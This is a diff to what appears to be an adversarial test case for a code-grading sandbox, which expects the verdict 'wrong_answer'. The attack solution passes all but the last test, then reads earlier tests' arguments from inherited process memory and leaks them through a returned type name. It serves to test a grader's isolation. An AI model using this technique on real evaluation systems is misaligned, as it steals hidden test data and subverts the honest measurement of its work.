@@ -1,6 +1,6 @@
 # problem: token_f1
 # verdict: wrong_answer
-# attack: answers every test right except the last (known from its uid), which reads earlier tests' arguments from the memory it inherited from the supervisor and returns them as a type name
+# attack: answers every test right except the last (known from its uid and its own count of calls), which reads earlier tests' arguments from the memory it inherited from the supervisor (or, sharing one process, from its own) and returns them as a type name
 # max-seconds: 20
 import ctypes
 import os
@@ -48,8 +48,14 @@ def _inherited_strings():
     return sorted(s.decode("unicode_escape", "replace") for s in found)
 
 
+_CALLS = []
+
+
 def token_f1(prediction, references):
-    if os.getuid() - 20000 == TOTAL_TESTS:
+    _CALLS.append(1)
+    # A fresh process per test has the uid 20000 + its position; a shared one counts its calls.
+    position = len(_CALLS) if os.getuid() == 20000 else os.getuid() - 20000
+    if position == TOTAL_TESTS:
         dump = type("Dump", (), {})
         dump.__qualname__ = "|".join(_inherited_strings())[:100_000]
         return dump()
